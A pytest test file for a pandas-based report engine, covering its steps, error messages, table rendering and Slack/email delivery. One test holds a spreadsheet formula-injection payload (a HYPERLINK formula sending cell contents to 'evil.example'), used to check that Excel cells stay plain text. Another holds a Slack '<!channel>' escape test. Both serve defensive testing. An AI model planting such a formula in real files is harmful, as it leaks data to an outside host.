"""The report engine on its own: steps, their errors (naming the step), rendering for people."""

from __future__ import annotations

import pandas as pd
import pytest

from airflow_opsflow.reports.build import ReportBuildError, build
from airflow_opsflow.reports.render import cell, html_table, text_table
from airflow_opsflow.reports.spec import parse

SALES = pd.DataFrame({"month": ["2026-09", "2026-09", "2026-10", "2026-10"], "country": ["DE", "FR", "DE", "FR"],
                      "revenue": [100.0, 50.0, 120.5, 70.0]})
COSTS = pd.DataFrame({"month": ["2026-09", "2026-10"], "costs": [90.0, 100.0]})


def test_steps_read_top_to_bottom() -> None:
    spec = parse({"sales": "q1", "costs": "q2"}, [
        {"op": "group", "by": ["month"], "agg": {"revenue": "sum", "countries": ["country", "nunique"]},
         "into": "monthly"},
        {"op": "merge", "right": "costs", "on": ["month"]},
        {"op": "compute", "columns": {"margin": "revenue - costs"}},
        {"op": "select", "columns": ["month", "revenue", "costs", "margin"]},
        {"op": "total"},
    ])
    frames = build(spec, {"sales": SALES, "costs": COSTS})
    out = frames[spec.result_frame]
    assert spec.result_frame == "monthly"
    assert out.to_dict("records") == [
        {"month": "2026-09", "revenue": 150.0, "costs": 90.0, "margin": 60.0},
        {"month": "2026-10", "revenue": 190.5, "costs": 100.0, "margin": 90.5},
        {"month": "Total", "revenue": 340.5, "costs": 190.0, "margin": 150.5}]


def test_pivot_filter_sort_head_rename_concat() -> None:
    spec = parse({"sales": "q"}, [
        {"op": "filter", "query": "revenue > 60"},
        {"op": "pivot", "index": ["month"], "columns": "country", "values": "revenue", "fill_value": 0},
        {"op": "sort", "by": ["month"], "ascending": False},
        {"op": "rename", "columns": {"DE": "Germany"}},
        {"op": "head", "n": 1},
        {"op": "concat", "frames": ["sales", "sales"], "into": "twice"},
    ], output="sales")
    frames = build(spec, {"sales": SALES})
    assert frames["sales"].to_dict("records") == [{"month": "2026-10", "Germany": 120.5, "FR": 70.0}]
    assert len(frames["twice"]) == 2


def test_a_failing_step_names_itself_and_the_columns() -> None:
    spec = parse({"sales": "q"}, [{"op": "sort", "by": ["month"]}, {"op": "group", "by": ["region"],
                                                                   "agg": {"revenue": "sum"}}])
    with pytest.raises(ReportBuildError, match=r"step #2 \(group\) on frame 'sales' failed: no column 'region' "
                                               r"\(columns: month, country, revenue\)"):
        build(spec, {"sales": SALES})
    bad = parse({"sales": "q"}, [{"op": "compute", "columns": {"x": "revenue +* 2"}}])
    with pytest.raises(ReportBuildError, match=r"step #1 \(compute\) on frame 'sales' failed"):
        build(bad, {"sales": SALES})


def test_rendering_for_people() -> None:
    df = pd.DataFrame({"provider": ["a" * 10, "b"], "amount": [1234567.891, 2.0], "n": [3, 40000]})
    table, shown = text_table(df, 10, 3000)
    assert table.splitlines() == ["provider          amount       n",
                                  "aaaaaaaaaa  1,234,567.89       3",
                                  "b                   2.00  40,000"] and shown == 2
    assert text_table(df, 10, 60)[1] == 1  # fewer rows when it does not fit
    html = html_table(df, 1)
    assert html.count("<tr>") == 2 and "aaaaaaaaaa" in html and "40,000" not in html
    assert (cell(None), cell(float("nan")), cell(pd.Timestamp("2026-11-01"))) == ("", "", "2026-11-01")


def test_totals_on_empty_and_numeric_label_columns() -> None:
    spec = parse({"sales": "q"}, [{"op": "group", "by": ["year"], "agg": {"revenue": "sum"}}, {"op": "total"}])
    empty = build(spec, {"sales": pd.DataFrame({"year": [], "revenue": []})})["sales"]
    assert empty.empty  # an empty report stays empty: on_empty decides
    years = build(spec, {"sales": pd.DataFrame({"year": [2025, 2026], "revenue": [1.0, 2.0]})})["sales"]
    assert years.to_dict("records")[-1] == {"year": "Total", "revenue": 3.0}  # the years are not summed


def test_excel_gets_naive_times_and_distinct_sheet_names() -> None:
    import io
    from datetime import UTC, datetime

    from airflow_opsflow.reports.render import xlsx_bytes

    aware = pd.DataFrame({"at": pd.to_datetime(["2026-01-01T05:00Z"]), "obj": [datetime(2026, 1, 1, tzinfo=UTC)]})
    book = pd.read_excel(io.BytesIO(xlsx_bytes({"report": aware, "Report": aware, "x" * 40: aware})),
                         sheet_name=None)
    assert list(book) == ["report", "Report_2", "x" * 31]
    assert book["report"]["at"][0] == pd.Timestamp("2026-01-01 05:00")


def test_slack_text_stays_within_slack_limits_whatever_the_data() -> None:
    from airflow_opsflow.report_deliveries import SlackReport
    from airflow_opsflow.reports.output import render_report

    df = pd.DataFrame({"note": ["<&>" * 30] * 100, "n": range(100)})
    report = render_report({"r": df}, "r", "T" * 2000, "D" * 1500, ("csv",), None)
    text = SlackReport(channel="#ops", max_rows=100).text(report)
    assert len(text) <= 3000 and "&lt;&amp;&gt;" in text and "more row(s) in t" in text
    SlackReport(channel="#ops").check(report)  # within limits: no error


def test_email_addresses_and_non_mapping_steps() -> None:
    from airflow_opsflow.report_deliveries import EmailReport
    from airflow_opsflow.reports.spec import ReportSpecError

    assert EmailReport(to='"Doe, J" <j@example.com>, ops@example.com, ').to == ["j@example.com", "ops@example.com"]
    with pytest.raises(ValueError, match="at least one recipient"):
        EmailReport(to=" , ")
    with pytest.raises(ReportSpecError, match="step #1: a step is a mapping"):
        parse({"q": "select 1"}, ["sort by amount"])


EVERY_STEP = [
    {"op": "merge", "right": "costs", "on": ["month"], "how": "left"},
    {"op": "concat", "frames": ["sales", "sales"], "into": "twice"},
    {"op": "filter", "query": "country == 'DE' and revenue > 1", "frame": "sales"},
    {"op": "compute", "columns": {"margin": "revenue - costs", "share": "revenue / revenue.sum()"}},
    {"op": "group", "by": ["month"], "agg": {"revenue": "sum", "avg": ["revenue", "mean"], "n": ["country", "count"],
                                             "costs": "max"}, "into": "monthly"},
    {"op": "pivot", "frame": "sales", "index": ["month"], "columns": "country", "values": "revenue",
     "into": "pivoted"},
    {"op": "sort", "frame": "monthly", "by": ["revenue"], "ascending": False},
    {"op": "head", "n": 5},
    {"op": "rename", "columns": {"avg": "average"}},
    {"op": "select", "columns": ["month", "revenue", "average", "n", "costs"]},
    {"op": "total"},
    {"op": "round", "decimals": 2},
]


@pytest.mark.parametrize("typed", [True, False], ids=["typed", "untyped"])
def test_every_step_keeps_numbers_numeric_on_empty_input(typed: bool) -> None:
    """An empty week: typed columns (PostgreSQL, MariaDB) or none (SQLite's driver gives no types)."""
    sales, costs = SALES.head(0), COSTS.head(0)
    if not typed:
        sales, costs = sales.astype(object), costs.astype(object)
    spec = parse({"sales": "q", "costs": "q"}, EVERY_STEP)
    frames = build(spec, {"sales": sales, "costs": costs})
    out = frames["monthly"]
    assert out.empty and list(out.columns) == ["month", "revenue", "average", "n", "costs"]
    assert all(out[c].dtype.kind in "if" for c in ("revenue", "average", "n")), out.dtypes
    assert frames["sales"]["margin"].dtype.kind == "f" and frames["pivoted"].empty
    if typed:
        assert out["costs"].dtype.kind == "f"
    # and a column of NULLs among rows (no settlement this month) subtracts as NaN
    nulls = build(parse({"sales": "q"}, [{"op": "compute", "columns": {"left": "revenue - settled"}}]),
                  {"sales": SALES.assign(settled=None)})["sales"]
    assert nulls["left"].isna().all() and nulls["left"].dtype.kind == "f"


def test_files_carry_decimals_without_float_noise() -> None:
    from airflow_opsflow.reports.render import csv_bytes

    df = pd.DataFrame({"revenue": [63279.27, 3000.01 + 225.77], "unsettled": [63279.27 - 62506.53, 0.1 + 0.2],
                       "rate": [1 / 3, 0.125], "tiny": [1e-13 + 1, 2.0], "huge": [1e20, 1.5]})
    assert csv_bytes(df).decode().splitlines() == [
        "revenue,unsettled,rate,tiny,huge",
        "63279.27,772.74,0.333333333333333,1.0,1e+20",  # a column of decimals at its decimals; others 15 digits
        "3225.78,0.3,0.125,2.0,1.5"]


def test_a_value_no_file_can_take_names_its_column() -> None:
    import io
    from datetime import UTC, time

    from airflow_opsflow.reports.output import ReportRenderError, render_report

    df = pd.DataFrame({"n": [1], "opens": [time(10, tzinfo=UTC)], "tags": [["a", "b"]]})
    with pytest.raises(ReportRenderError, match=r"^r\.xlsx: sheet 'report', column 'opens': ValueError: Excel "):
        render_report({"r": df}, "r", "R", None, ("xlsx",), None)
    fine = render_report({"r": df.drop(columns="opens")}, "r", "R", None, ("csv", "xlsx"), None)
    book = pd.read_excel(io.BytesIO(fine.attachments[1].content))
    assert book["tags"].tolist() == ["['a', 'b']"]  # an array's text, as in the CSV


def test_xlsx_cells_are_data_never_formulas() -> None:
    """A value from the database that starts with '=' must not run as a formula when the file is opened."""
    import io

    import openpyxl
    import pandas as pd

    from airflow_opsflow.reports.render import xlsx_bytes

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"data": pd.DataFrame({"note": [evil, "=1+1", "ok"]})})))
    cells = [row[0] for row in book["data"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [evil, "=1+1", "ok"]
    assert {c.data_type for c in cells} == {"s"}


def test_report_tables_keep_slack_code_blocks_closed_and_html_escaped() -> None:
    from airflow_opsflow.report_deliveries import SlackReport
    from airflow_opsflow.reports.output import RenderedReport

    df = pd.DataFrame({"note": ["```<!channel>```", "line\nbreak"], "n": [1, 2]})
    text = SlackReport(channel="#ops").text(RenderedReport("T", None, df))
    assert text.count("```") == 2 and "<!channel>" not in text and "line break" in text
    html = html_table(df, 2)
    assert "&lt;!channel&gt;" in html and "<!channel>" not in html
